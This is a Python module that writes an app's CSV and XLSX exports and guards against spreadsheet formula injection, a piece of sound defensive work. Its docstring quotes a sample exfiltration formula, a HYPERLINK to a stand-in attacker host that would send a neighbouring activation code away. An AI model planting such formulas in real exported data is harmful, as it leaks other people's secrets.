"""The one spreadsheet writer: every CSV and XLSX download of Cakap is written here.

Names, job titles, OPD names and course titles come from imported files and forms. Text
that starts with `= + - @` (or their full-width forms ＝ ＋ － ＠), a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets (CSV injection, OWASP): a
person imported as `=HYPERLINK("http://evil.example/?"&A1,"Klik")` would become a live
link that sends the neighbouring cell — another person's activation code — away. Such
text gets a leading apostrophe (`neutralise`), and every XLSX text cell is stored as a
string, never as a formula (openpyxl writes any string starting with "=" as a formula).
Numbers, dates and booleans stay what they are: -5 is a number, not text starting
with "-".

Rows come from iterables and are written as they arrive (CSV line by line, XLSX in
openpyxl's write-only mode), so a caller can stream a long table.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Border, Font, PatternFill
from openpyxl.utils import get_column_letter

# A spreadsheet evaluates text starting with one of these. The full-width forms count:
# Excel's IME input and some locales turn them into their ASCII twins.
FORMULA_START = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
# Tab and carriage return (OWASP's list; newline too) start formulas on their own, and
# leading spaces protect nothing once an import option ("trim spaces") removes them.
_CONTROL_START = ("\t", "\r", "\n")

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could run this text as a formula."""
    return text.startswith(_CONTROL_START) or text.lstrip().startswith(FORMULA_START)


def neutralise(value: Any) -> Any:
    """Text a spreadsheet would run gets a leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and is_dangerous(value):
        return "'" + value
    return value


# ---------------------------------------------------------------------------- CSV

Formatter = Callable[[Any], str]


def _csv_cell(value: Any, formatter: Formatter | None) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    # Formatters see numbers and dates only, never text: their output is not user text.
    return formatter(value) if formatter is not None else str(value)


def csv_lines(
    rows: Iterable[Sequence[Any]],
    *,
    formats: Sequence[Formatter | None] = (),
    delimiter: str = ",",
) -> Iterator[str]:
    """Each row as one CSV line (Excel's dialect, CRLF), text neutralised.

    `formats[i]` turns a non-text value of column i into text (default `str`), e.g. a
    score into "77.00"; text cells never go through it. `delimiter` ";" is what Excel
    set to Indonesian expects (its list separator; "," is its decimal comma)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", delimiter=delimiter)
    for row in rows:
        writer.writerow(
            [
                _csv_cell(value, formats[i] if i < len(formats) else None)
                for i, value in enumerate(row)
            ]
        )
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def csv_bytes(
    rows: Iterable[Sequence[Any]],
    *,
    formats: Sequence[Formatter | None] = (),
    delimiter: str = ",",
) -> bytes:
    """The whole CSV file: UTF-8 with a BOM, so Excel reads Indonesian names right."""
    lines = csv_lines(rows, formats=formats, delimiter=delimiter)
    return ("\ufeff" + "".join(lines)).encode("utf-8")


# ---------------------------------------------------------------------------- XLSX


@dataclass(frozen=True)
class Style:
    font: Font | None = None
    fill: PatternFill | None = None
    border: Border | None = None
    alignment: Alignment | None = None
    number_format: str | None = None


@dataclass(frozen=True)
class Styled:
    """A cell value with its look, in the rows given to `xlsx_book`."""

    value: Any
    style: Style


@dataclass
class Sheet:
    """One worksheet: rows of plain values or `Styled` values, and the sheet's layout."""

    title: str
    rows: Iterable[Sequence[Any]]
    widths: Sequence[float] = ()  # per column, in characters
    merged: Iterable[str] = ()  # ranges like "A1:F1"; read after the rows are written
    freeze: str | None = None  # the first cell that scrolls, e.g. "A8"
    print_title_rows: str | None = None  # e.g. "7:7", repeated on every printed page


def xlsx_book(sheets: Iterable[Sheet]) -> bytes:
    """An XLSX workbook, written in openpyxl's streaming (write-only) mode."""
    book = Workbook(write_only=True)
    for spec in sheets:
        ws = book.create_sheet(spec.title[:31])
        # Write-only sheets need their layout before the first row is written.
        for index, width in enumerate(spec.widths, start=1):
            ws.column_dimensions[get_column_letter(index)].width = width
        if spec.freeze:
            ws.freeze_panes = spec.freeze
        if spec.print_title_rows:
            ws.print_title_rows = spec.print_title_rows
        for row in spec.rows:
            ws.append([_xlsx_cell(ws, value) for value in row])
        for cell_range in spec.merged:
            ws.merged_cells.add(cell_range)
    if not book.worksheets:
        book.create_sheet("Sheet")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(ws, value: Any) -> WriteOnlyCell | None:
    style = None
    if isinstance(value, Styled):
        value, style = value.value, value.style
    if value is None and style is None:
        return None
    cell = WriteOnlyCell(ws)
    if isinstance(value, str):
        # Control characters other than tab/newline are invalid in XML: dropped, so an
        # imported name with a stray \x01 cannot break the download.
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", neutralise(value))
        # Always a string: never a formula ("=…") nor an error value ("#N/A").
        cell.data_type = "s"
    else:
        cell.value = value
    if style is not None:
        if style.font is not None:
            cell.font = style.font
        if style.fill is not None:
            cell.fill = style.fill
        if style.border is not None:
            cell.border = style.border
        if style.alignment is not None:
            cell.alignment = style.alignment
        if style.number_format is not None:
            cell.number_format = style.number_format
    return cell
